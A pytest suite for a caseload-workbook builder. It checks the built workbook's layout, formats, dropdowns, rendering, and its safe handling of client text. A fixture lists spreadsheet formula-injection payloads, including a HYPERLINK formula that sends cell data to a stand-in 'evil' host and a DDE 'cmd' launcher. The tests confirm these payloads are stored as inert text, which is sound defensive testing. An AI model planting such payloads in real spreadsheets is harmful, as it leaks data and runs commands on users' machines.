"""The built caseload workbook: contract, safety of client text, and how it looks.

Set PYXL_SCREENSHOT_DIR to keep the rendered Clients / Due List pages.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import subprocess
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from lxml import etree

from pyxl.adapters import libreoffice, schema
from pyxl.adapters import workbook_builder as wbb

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
D = dt.date

HOSTILE = {
    '=HYPERLINK("http://evil/?d="&B3,"x")': '=HYPERLINK("http://evil/?d="&B3,"x")',
    "+cmd|' /C calc'!A0": "+cmd|' /C calc'!A0",
    "-2+3": "-2+3",
    "@SUM(1)": "@SUM(1)",
    "#N/A": "#N/A",
    "00123": "00123",
    "Ana\x0bMaria": "Ana?Maria",
    'Smith & Sons <Ltd> "Bob" O\'Neil': 'Smith & Sons <Ltd> "Bob" O\'Neil',
    "\uff1dSUM(1)": "\uff1dSUM(1)",
}
TRIGGERED = {k for k in HOSTILE.values() if k.startswith(wbb.FORMULA_TRIGGERS)}


def row_for(sheet: schema.Sheet, **values: object) -> list[object]:
    unknown = set(values) - set(sheet.headers)
    assert not unknown, unknown
    return [values.get(h) for h in sheet.headers]


def client(case_id: str, name: str, **kw: object) -> list[object]:
    base = {
        "Case ID": case_id,
        "Person ID": f"P{case_id}",
        "Client Name": name,
        "Program": "Texas Choices",
        "Branch": "Austin North",
        "Case Manager": "Maria Lopez",
        "Referral Date": D(2025, 3, 3),
        "Language": "English",
        "Engaged": True,
    }
    base.update(kw)
    return row_for(schema.CLIENTS, **base)


def sample_rows() -> dict[str, list[list[object]]]:
    """A few rows on every sheet; the hostile strings go into Clients' Client Name."""
    clients = [client(f"C{i:03d}", text) for i, text in enumerate(HOSTILE, start=1)]
    clients.append(
        client(
            "00777",
            "Dana Whitehorse",
            Program="ATAP Work First",
            Branch="Anchorage",
            **{
                "Case Manager": "Sam Oyelaran",
                "Date of Birth": D(1990, 7, 14),
                "Engaged": False,
                "Next Due Date": D(2025, 3, 4),
                "Next Due Rule": "A-01",
                "Overdue Count": 2,
                "State": "AK",
                "Postal Code": "99501",
            },
        )
    )
    return {
        "Clients": clients,
        "Contacts": [
            row_for(
                schema.CONTACTS,
                **{
                    "Case ID": "00777",
                    "Date": D(2025, 3, 4),
                    "Method": "Phone",
                    "Successful": False,
                    "Notes": "=1+1 left voicemail",
                    "Staff": "Sam Oyelaran",
                },
            )
        ],
        "Appointments": [
            row_for(
                schema.APPOINTMENTS,
                **{
                    "Case ID": "00777",
                    "Type": "Orientation",
                    "Date": D(2025, 3, 10),
                    "Time": "09:30",
                    "Status": "No-show",
                    "Called Ahead": False,
                },
            )
        ],
        "Hours": [
            row_for(
                schema.HOURS,
                **{
                    "Case ID": "C001",
                    "Week Start": D(2025, 3, 3),
                    "Activity": "Job search and job readiness",
                    "Hours": 12.5,
                    "Verified": True,
                    "Entered Date": dt.datetime(2025, 3, 10, 14, 5),
                },
            )
        ],
        "Services": [
            row_for(
                schema.SERVICES,
                **{"Case ID": "C002", "Service": "COA (08)", "Start Date": D(2025, 2, 1)},
            )
        ],
        "Plans": [
            row_for(
                schema.PLANS,
                **{"Case ID": "C002", "Plan Type": "ISS", "Plan Date": D(2025, 2, 15)},
            )
        ],
        "Due List": [
            row_for(
                schema.DUE_LIST,
                **{
                    "Case ID": "00777",
                    "Client Name": "Dana Whitehorse",
                    "Program": "ATAP Work First",
                    "Branch": "Anchorage",
                    "Case Manager": "Sam Oyelaran",
                    "Rule": "A-01",
                    "Obligation": "Contact within 1 business day of referral",
                    "Trigger Date": D(2025, 3, 3),
                    "Due Date": D(2025, 3, 4),
                    "Status": status,
                    "Days Overdue": days,
                    "Explanation": "Referral 2025-03-03 + 1 business day.",
                },
            )
            for status, days in (("OVERDUE", 3), ("DUE SOON", None), ("MET", None))
        ],
        "Errors": [
            row_for(
                schema.ERRORS,
                **{
                    "Sheet": "Clients",
                    "Row": 5,
                    "Column": "Client Name",
                    "Cell": "C5",
                    "Severity": "error",
                    "Value": "Ana\x0bMaria",
                    "Problem": "Control character in text",
                },
            )
        ],
        "Branches": [
            row_for(
                schema.BRANCHES,
                **{"Branch": "Austin North", "State": "TX", "Calendar": "TX"},
            ),
            row_for(schema.BRANCHES, **{"Branch": "Anchorage", "State": "AK", "Calendar": "AK"}),
        ],
        "Staff": [
            row_for(schema.STAFF, **{"Case Manager": "Maria Lopez", "Branch": "Austin North"}),
            row_for(schema.STAFF, **{"Case Manager": "Sam Oyelaran", "Branch": "Anchorage"}),
        ],
        "Holidays": [
            row_for(
                schema.HOLIDAYS,
                **{
                    "Calendar": "AK",
                    "Date": D(2025, 3, 31),
                    "Holiday": "Seward's Day",
                    "Closed": True,
                },
            )
        ],
        "Settings": [
            row_for(
                schema.SETTINGS,
                **{"Setting": "Due soon days", "Value": 5, "Default": 5, "Rule": "all"},
            )
        ],
    }


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return wbb.build_workbook(tmp_path_factory.mktemp("wb") / "caseload.xlsx", sample_rows())


@pytest.fixture(scope="module")
def book(built: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(built)


def sheet_xml(path: Path, sheet_name: str) -> etree._Element:
    """The worksheet XML part of `sheet_name` (sheets are written in order)."""
    index = wbb.SHEET_ORDER.index(sheet_name) + 1
    with zipfile.ZipFile(path) as z:
        return etree.fromstring(z.read(f"xl/worksheets/sheet{index}.xml"))


def cell_xfs(path: Path) -> list[etree._Element]:
    with zipfile.ZipFile(path) as z:
        styles = etree.fromstring(z.read("xl/styles.xml"))
    return styles.findall("m:cellXfs/m:xf", NS)


def num_formats(path: Path) -> dict[int, str]:
    with zipfile.ZipFile(path) as z:
        styles = etree.fromstring(z.read("xl/styles.xml"))
    fmts = {
        int(f.get("numFmtId")): f.get("formatCode") for f in styles.iter(f"{{{NS['m']}}}numFmt")
    }
    return {**fmts, 0: "General", 1: "0", 49: "@", 14: "m/d/yyyy"}


# -- the contract ---------------------------------------------------------------------


def test_workbook_loads_in_openpyxl_without_warnings(built: Path) -> None:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        openpyxl.load_workbook(built)
    assert [str(w.message) for w in caught] == []


def test_sheets_come_in_the_agreed_order_and_lists_is_hidden(book: openpyxl.Workbook) -> None:
    assert book.sheetnames == list(wbb.SHEET_ORDER)
    assert set(schema.SHEETS) <= set(book.sheetnames)
    assert book[schema.LISTS_SHEET].sheet_state == "hidden"
    visible = [ws.title for ws in book.worksheets if ws.sheet_state == "visible"]
    assert visible == [n for n in wbb.SHEET_ORDER if n != schema.LISTS_SHEET]
    assert book.active.title == schema.HOW_TO_SHEET


def test_every_data_sheet_is_one_table_with_the_schema_headers(book: openpyxl.Workbook) -> None:
    rows = sample_rows()
    for sheet in schema.ALL_SHEETS:
        ws = book[sheet.name]
        assert ws["A1"].value == sheet.title
        assert ws["A1"].font.b and ws["A1"].font.sz > 11
        assert ws["A2"].value == sheet.description
        assert list(ws.tables) == [sheet.table]
        table = ws.tables[sheet.table]
        last_col = openpyxl.utils.get_column_letter(len(sheet.columns))
        last_row = schema.HEADER_ROW + max(len(rows.get(sheet.name, [])), 1)
        assert table.ref == f"A{schema.HEADER_ROW}:{last_col}{last_row}"
        assert table.headerRowCount == 1 and table.autoFilter is not None
        assert table.tableStyleInfo.showRowStripes
        assert [c.name for c in table.tableColumns] == list(sheet.headers)
        header = [c.value for c in ws[schema.HEADER_ROW]][: len(sheet.columns)]
        assert header == list(sheet.headers)
        assert not ws.merged_cells.ranges


def test_empty_sheets_still_get_a_table_with_one_blank_row(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(wbb.build_workbook(tmp_path / "empty.xlsx"))
    for sheet in schema.ALL_SHEETS:
        table = book[sheet.name].tables[sheet.table]
        last_col = openpyxl.utils.get_column_letter(len(sheet.columns))
        assert table.ref == f"A3:{last_col}4"
        assert all(c.value is None for c in book[sheet.name][4])


def test_frozen_panes_sit_below_the_header_and_after_case_id_on_clients(
    book: openpyxl.Workbook,
) -> None:
    for sheet in schema.ALL_SHEETS:
        expected = "B4" if sheet is schema.CLIENTS else "A4"
        assert book[sheet.name].freeze_panes == expected, sheet.name


# -- client text is stored as text --------------------------------------------------------


def test_hostile_client_text_reads_back_as_the_same_string(built: Path, book) -> None:
    ws = book[schema.CLIENTS.name]
    name_col = schema.CLIENTS.headers.index("Client Name") + 1
    xml = sheet_xml(built, schema.CLIENTS.name)
    for r, expected in enumerate(HOSTILE.values(), start=schema.HEADER_ROW + 1):
        cell = ws.cell(row=r, column=name_col)
        assert cell.value == expected
        assert cell.data_type == "s"
        assert cell.quotePrefix == (expected in TRIGGERED), expected
        node = xml.find(f".//m:c[@r='{cell.coordinate}']", NS)
        assert node is not None and node.find("m:f", NS) is None
        assert node.get("t") == "s"
    assert ws.cell(row=schema.HEADER_ROW + 1, column=1).value == "C001"
    assert ws[f"A{schema.HEADER_ROW + len(HOSTILE) + 1}"].value == "00777"
    assert next(xml.iter(f"{{{NS['m']}}}f"), None) is None


def test_text_with_a_trigger_uses_a_quote_prefix_style_and_no_formula_anywhere(built) -> None:
    xfs = cell_xfs(built)
    for name in schema.SHEETS:
        xml = sheet_xml(built, name)
        formulas = [f.getparent().get("r") for f in xml.iter(f"{{{NS['m']}}}f")]
        # Only pyxl's own filter-aware counts beside the Due List title (row 1).
        assert all(r.endswith("1") and len(r) == 2 for r in formulas), (name, formulas)
        assert not formulas or name == schema.DUE_LIST.name, (name, formulas)
    contacts = openpyxl.load_workbook(built)[schema.CONTACTS.name]
    notes = contacts.cell(row=4, column=schema.CONTACTS.headers.index("Notes") + 1)
    assert notes.value == "=1+1 left voicemail" and notes.data_type == "s" and notes.quotePrefix
    assert any(xf.get("quotePrefix") == "1" for xf in xfs)


def test_control_characters_are_shown_as_a_question_mark(book: openpyxl.Workbook) -> None:
    errors = book[schema.ERRORS.name]
    assert errors.cell(row=4, column=schema.ERRORS.headers.index("Value") + 1).value == "Ana?Maria"


def test_bools_are_written_as_yes_and_no(book: openpyxl.Workbook) -> None:
    ws = book[schema.CLIENTS.name]
    engaged = schema.CLIENTS.headers.index("Engaged") + 1
    assert ws.cell(row=4, column=engaged).value == "Yes"
    assert ws.cell(row=4 + len(HOSTILE), column=engaged).value == "No"


def test_dates_and_numbers_carry_their_formats(book: openpyxl.Workbook) -> None:
    clients = book[schema.CLIENTS.name]
    referral = clients.cell(row=4, column=schema.CLIENTS.headers.index("Referral Date") + 1)
    assert referral.is_date and referral.number_format == "yyyy-mm-dd"
    assert referral.value == dt.datetime(2025, 3, 3)
    overdue = clients.cell(
        row=4 + len(HOSTILE), column=schema.CLIENTS.headers.index("Overdue Count") + 1
    )
    assert overdue.value == 2 and overdue.number_format == "0"
    hours = book[schema.HOURS.name]
    assert hours["D4"].value == 12.5 and hours["D4"].number_format == "0.0"
    assert hours["F4"].is_date and hours["F4"].number_format == "yyyy-mm-dd"
    due = book[schema.DUE_LIST.name]
    for col in ("Trigger Date", "Due Date"):
        cell = due.cell(row=4, column=schema.DUE_LIST.headers.index(col) + 1)
        # due dates show their weekday: a Saturday deadline is visible at a glance
        assert cell.is_date and cell.number_format == "ddd yyyy-mm-dd"


def test_each_column_has_its_own_col_element_carrying_the_cell_style(built: Path) -> None:
    xfs = cell_xfs(built)
    fmts = num_formats(built)
    expected_format = {"date": "yyyy-mm-dd", "int": "0", "number": "0.0"}
    for sheet in schema.ALL_SHEETS:
        xml = sheet_xml(built, sheet.name)
        cols = xml.findall("m:cols/m:col", NS)
        assert [(int(c.get("min")), int(c.get("max"))) for c in cols] == [
            (i, i) for i in range(1, len(sheet.columns) + 1)
        ], sheet.name
        for col, node in zip(sheet.columns, cols, strict=True):
            style = int(node.get("style"))
            assert style > 0
            xf = xfs[style]
            wanted = col.number_format or expected_format.get(col.kind, "@")
            assert fmts[int(xf.get("numFmtId"))] == wanted
            assert float(node.get("width")) == pytest.approx(col.width, abs=1)
            grey = xf.get("fillId") not in (None, "0")
            assert grey == (sheet.computed or col.computed), (sheet.name, col.header)
        # every written data cell without a quote prefix uses its column's style
        letters = {openpyxl.utils.get_column_letter(i + 1): c for i, c in enumerate(cols)}
        for c in xml.iterfind("m:sheetData/m:row/m:c", NS):
            row = int(re.sub(r"[A-Z]+", "", c.get("r")))
            letter = re.sub(r"\d+", "", c.get("r"))
            if row > schema.HEADER_ROW and xfs[int(c.get("s"))].get("quotePrefix") != "1":
                assert c.get("s") == letters[letter].get("style"), (sheet.name, c.get("r"))


# -- dropdowns, validation, help ---------------------------------------------------------


def test_dropdowns_point_at_defined_names_never_inline_lists(book: openpyxl.Workbook) -> None:
    names = book.defined_names
    for key, values in schema.LISTS.items():
        dn = names[wbb.list_name(key)]
        ((sheet_name, ref),) = list(dn.destinations)
        assert sheet_name == schema.LISTS_SHEET
        got = [c.value for (c,) in book[sheet_name][ref.replace("$", "")]]
        assert got == list(values)
    for key, (sheet_name, header) in schema.TABLE_LISTS.items():
        ((dest, ref),) = list(names[wbb.list_name(key)].destinations)
        letter = openpyxl.utils.get_column_letter(
            schema.SHEETS[sheet_name].headers.index(header) + 1
        )
        assert (dest, ref) == (sheet_name, f"${letter}$4:${letter}$1000")

    for sheet in (*schema.INPUT_SHEETS, *schema.REFERENCE_SHEETS):
        dvs = book[sheet.name].data_validations.dataValidation
        by_col = {str(dv.sqref): dv for dv in dvs}
        for i, col in enumerate(sheet.columns, start=1):
            letter = openpyxl.utils.get_column_letter(i)
            dv = by_col.get(f"{letter}4:{letter}100000")
            bounded = col.minimum is not None  # a number with what it can be
            if col.suggestions:  # offered, but other values are allowed (Branches' Calendar)
                assert dv.type == "list" and dv.formula1 == wbb.list_name(col.suggestions)
                assert dv.errorStyle == "information", (sheet.name, col.header)
            elif col.computed or (col.kind not in ("choice", "bool", "date") and not bounded):
                assert dv is None, (sheet.name, col.header)
            elif bounded:
                assert dv.type == ("whole" if col.kind == "int" else "decimal")
                assert (float(dv.formula1), float(dv.formula2)) == (col.minimum, col.maximum)
                assert dv.error and dv.prompt and dv.showErrorMessage
            elif col.kind == "date":
                assert dv.type == "date" and dv.operator in (None, "between")  # the default
                # 2000-01-01 .. 2100-12-31; a date of birth may go back to 1900-01-01
                first = "1" if col.header == "Date of Birth" else "36526"
                assert (dv.formula1, dv.formula2) == (first, "73415")
                assert dv.error and dv.prompt and dv.showErrorMessage
            else:
                assert dv.type == "list"
                assert dv.formula1 == wbb.list_name(col.choices or "YesNo")
                assert dv.showErrorMessage and dv.prompt
                if col.help:
                    assert col.help.rstrip(".") in dv.prompt
    for sheet in schema.COMPUTED_SHEETS:
        assert not book[sheet.name].data_validations.dataValidation


def test_computed_columns_are_grey_with_a_note_not_a_new_header(book: openpyxl.Workbook) -> None:
    for sheet in schema.ALL_SHEETS:
        ws = book[sheet.name]
        for i, col in enumerate(sheet.columns, start=1):
            cell = ws.cell(row=schema.HEADER_ROW, column=i)
            assert "(computed)" not in cell.value
            computed = sheet.computed or col.computed
            assert (cell.fill.fgColor.rgb == "FFBFBFBF") == computed, (sheet.name, col.header)
            if computed:
                assert cell.comment is not None and "(computed)" in cell.comment.text
            elif (
                col.help
                and col.kind not in ("choice", "bool", "date")
                and not col.suggestions
                and col.minimum is None
            ):
                assert cell.comment is not None and col.help in cell.comment.text


def test_status_colours_are_formula_rules_over_the_whole_due_list(
    book: openpyxl.Workbook,
) -> None:
    ws = book[schema.DUE_LIST.name]
    status = openpyxl.utils.get_column_letter(schema.DUE_LIST.headers.index("Status") + 1)
    last = openpyxl.utils.get_column_letter(len(schema.DUE_LIST.columns))
    rules = {str(cf.sqref): [r.formula[0] for r in cf.rules] for cf in ws.conditional_formatting}
    assert rules == {
        f"A4:{last}6": [f'${status}4="OVERDUE"', f'${status}4="DUE SOON"', f'${status}4="MET"']
    }
    clients = {str(cf.sqref) for cf in book[schema.CLIENTS.name].conditional_formatting}
    letter = {
        h: openpyxl.utils.get_column_letter(i + 1) for i, h in enumerate(schema.CLIENTS.headers)
    }
    next_due, overdue = letter["Next Due Date"], letter["Overdue Count"]
    assert clients == {f"{next_due}4:{next_due}13", f"{overdue}4:{overdue}13"}
    errors = {str(cf.sqref) for cf in book[schema.ERRORS.name].conditional_formatting}
    assert errors == {"A4:G4"}


def test_print_setup_fits_one_page_wide_and_repeats_the_header(book: openpyxl.Workbook) -> None:
    for name in wbb.SHEET_ORDER[1:-1]:
        ws = book[name]
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth in (None, 1)  # 1 is the default
        assert ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == "$3:$3"
        assert "&A" in ws.oddHeader.left.text and "&P" in ws.oddFooter.right.text


def test_properties_carry_the_title_and_no_personal_data(book, built: Path) -> None:
    assert book.properties.title == "pyxl caseload workbook"
    assert not book.properties.creator and not book.properties.lastModifiedBy
    with zipfile.ZipFile(built) as z:
        app = z.read("docProps/app.xml").decode()
    assert "<Company></Company>" in app or "<Company/>" in app or "Company" not in app


def test_the_guide_explains_every_sheet_status_and_user(book: openpyxl.Workbook) -> None:
    ws = book[schema.HOW_TO_SHEET]
    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value)
    for word in (*schema.SHEETS, "MET", "DUE SOON", "OVERDUE", "N/A", "pyxl recompute", "A-01"):
        assert word in text, word
    for user in ("case manager", "supervisor", "clerk"):
        assert f"If you are a {user}" in text
    assert not ws.merged_cells.ranges


def test_a_date_before_excel_dates_begin_is_kept_as_visible_text(tmp_path: Path) -> None:
    old = client("X1", "Old Timer", **{"Date of Birth": D(1899, 12, 30)})
    book = openpyxl.load_workbook(wbb.build_workbook(tmp_path / "x.xlsx", {"Clients": [old]}))
    cell = book[schema.CLIENTS.name].cell(row=4, column=10)
    assert (cell.value, cell.data_type) == ("1899-12-30", "s")


def test_bad_input_is_refused_with_the_place_it_came_from(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="no such data sheet"):
        wbb.build_workbook(tmp_path / "x.xlsx", {"Client": []})
    with pytest.raises(ValueError, match="Contacts data row 1: 2 values"):
        wbb.build_workbook(tmp_path / "x.xlsx", {"Contacts": [["C1", D(2025, 1, 1)]]})
    note = row_for(schema.CONTACTS, Notes="x" * 40_000)
    with pytest.raises(ValueError, match=r"Contacts!K4: 40000 characters"):
        wbb.build_workbook(tmp_path / "x.xlsx", {"Contacts": [note]})
    assert not list(tmp_path.iterdir())  # nothing half-written left behind


# -- LibreOffice --------------------------------------------------------------------------


def test_libreoffice_opens_converts_and_keeps_the_values(
    soffice: str, built: Path, tmp_path: Path
) -> None:
    xlsx = libreoffice.convert(built, "xlsx", tmp_path / "xlsx")[0]
    pdf = libreoffice.to_pdf(built, tmp_path / "pdf")
    assert pdf.stat().st_size > 10_000
    book = openpyxl.load_workbook(xlsx)
    assert [n for n in book.sheetnames] == list(wbb.SHEET_ORDER)
    ws = book[schema.CLIENTS.name]
    names = [ws.cell(row=r, column=3).value for r in range(4, 4 + len(HOSTILE))]
    assert names == list(HOSTILE.values())
    assert all(ws.cell(row=r, column=3).data_type == "s" for r in range(4, 4 + len(HOSTILE)))
    assert ws["G4"].value == dt.datetime(2025, 3, 3)
    assert book[schema.DUE_LIST.name]["J4"].value == "OVERDUE"


# -- how it looks ---------------------------------------------------------------------------

FIRST = ["Maria", "James", "Aiyana", "Luis", "Grace", "Tuan", "Keisha", "Omar", "Rosa", "Dmitri"]
LAST = ["Garcia", "Nguyen", "Begay", "Johnson", "Okafor", "Martinez", "Smith", "Kowalski"]
OFFICES = [
    ("Anchorage", "AK", "ATAP Work First", "Sam Oyelaran"),
    ("Portland East", "OR", "Oregon JOBS", "Lena Fischer"),
    ("Austin North", "TX", "Texas Choices", "Maria Lopez"),
    ("San Antonio", "TX", "Texas WIOA Youth", "Derek Chau"),
    ("Austin North", "TX", "Texas SNAP E&T", "Maria Lopez"),
]
OBLIGATIONS = [
    ("A-01", "Contact within 1 business day of referral", 1),
    ("O-06", "Engagement attempt after missed activity", 1),
    ("T-05", "Enter weekly cooperation hours", 7),
    ("Y-04", "Monthly in-person quality contact", 30),
    ("Y-03", "Quarterly ISS review", 91),
    ("O-01", "Conciliation within 10 working days", 14),
]


def realistic_rows(today: dt.date) -> dict[str, list[list[object]]]:
    clients, due = [], []
    for i in range(30):
        branch, state, program, cm = OFFICES[i % len(OFFICES)]
        name = f"{FIRST[i % len(FIRST)]} {LAST[(i * 3) % len(LAST)]}"
        case_id = f"{state}{24031 + i * 7:06d}"
        referral = today - dt.timedelta(days=3 + (i * 11) % 200)
        rule, obligation, span = OBLIGATIONS[i % len(OBLIGATIONS)]
        due_date = today + dt.timedelta(days=(i * 5) % 19 - 8)
        overdue = max(0, (today - due_date).days)
        clients.append(
            client(
                case_id,
                name,
                Program=program,
                Branch=branch,
                State=state,
                City=branch.split()[0],
                Address=f"{100 + i * 13} {['Pine', 'Elm', 'Cedar', 'Main'][i % 4]} St",
                **{
                    "Case Manager": cm,
                    "Referral Date": referral,
                    "Language": "Spanish" if i % 4 == 1 else "English",
                    "Sex": "FMX"[i % 3],
                    "Date of Birth": D(1975 + i % 30, 1 + i % 12, 1 + i % 27),
                    "Engaged": i % 7 != 3,
                    "Postal Code": f"{['99501', '97215', '78753', '78207'][i % 4]}",
                    "Phone": f"(555) 01{i:02d}-{4000 + i * 17}",
                    "E-mail": f"{name.split()[0].lower()}{i}@example.org",
                    "Next Due Date": due_date,
                    "Next Due Rule": rule,
                    "Overdue Count": 1 + i % 3 if overdue else 0,
                },
            )
        )
        status = (
            "OVERDUE"
            if overdue
            else "DUE SOON"
            if (due_date - today).days <= 5
            else ("MET" if i % 5 == 0 else "DUE")
        )
        due.append(
            row_for(
                schema.DUE_LIST,
                **{
                    "Case ID": case_id,
                    "Client Name": name,
                    "Program": program,
                    "Branch": branch,
                    "Case Manager": cm,
                    "Rule": rule,
                    "Obligation": obligation,
                    "Trigger Date": due_date - dt.timedelta(days=span),
                    "Due Date": due_date,
                    "Status": status,
                    "Days Overdue": overdue or None,
                    "Explanation": (
                        f"{obligation}: triggered {due_date - dt.timedelta(days=span)}, "
                        f"due {due_date}; nothing logged yet that satisfies {rule}."
                    ),
                },
            )
        )
    order = {"OVERDUE": 0, "DUE SOON": 1, "DUE": 2, "MET": 3}
    due.sort(key=lambda r: (order[r[9]], r[8]))
    return {"Clients": clients, "Due List": due}


def page_with(pdf: Path, marker: str) -> int:
    pages = int(re.search(r"Pages:\s+(\d+)", _run(["pdfinfo", str(pdf)])).group(1))
    for page in range(1, pages + 1):
        text = _run(["pdftotext", "-f", str(page), "-l", str(page), "-layout", str(pdf), "-"])
        if marker in " ".join(text.split()):
            return page
    raise AssertionError(f"no page with {marker!r}")


def _run(args: list[str]) -> str:
    return subprocess.run(args, check=True, capture_output=True, text=True).stdout


def test_clients_and_due_list_render_as_readable_pages(
    soffice: str, tmp_path: Path, png_pixels: Callable[[Path], np.ndarray]
) -> None:
    today = dt.date.today()
    built = wbb.build_workbook(tmp_path / "caseload.xlsx", realistic_rows(today))
    pdf = libreoffice.to_pdf(built, tmp_path / "pdf")
    shots = {}
    markers = (("due-list", schema.DUE_LIST.description), ("clients", schema.CLIENTS.description))
    for name, marker in markers:
        page = page_with(pdf, marker)
        (png,) = libreoffice.pdf_to_png(pdf, tmp_path / name, dpi=110, first=page, last=page)
        assert png.stat().st_size > 30_000
        pixels = png_pixels(png)
        assert pixels.shape[0] > 600 and pixels.shape[1] > 600
        ink = (pixels[..., :3].min(axis=2) < 200).mean()
        assert ink > 0.03, f"{name} page looks blank ({ink:.1%} ink)"
        colours = {tuple(p) for p in pixels[::7, ::7, :3].reshape(-1, 3)}
        assert len(colours) > 20, f"{name}: {len(colours)} colours"
        shots[name] = png
        text = _run(["pdftotext", "-f", str(page), "-l", str(page), str(pdf), "-"])
        assert "###" not in text  # no date too wide for its column
    due_text = _run(["pdftotext", "-layout", str(pdf), "-"])
    assert "OVERDUE" in due_text and "DUE SOON" in due_text
    keep = os.environ.get("PYXL_SCREENSHOT_DIR")
    if keep:
        Path(keep).mkdir(parents=True, exist_ok=True)
        for name, png in shots.items():
            shutil.copy(png, Path(keep) / f"{name}.png")
        shutil.copy(pdf, Path(keep) / "caseload.pdf")
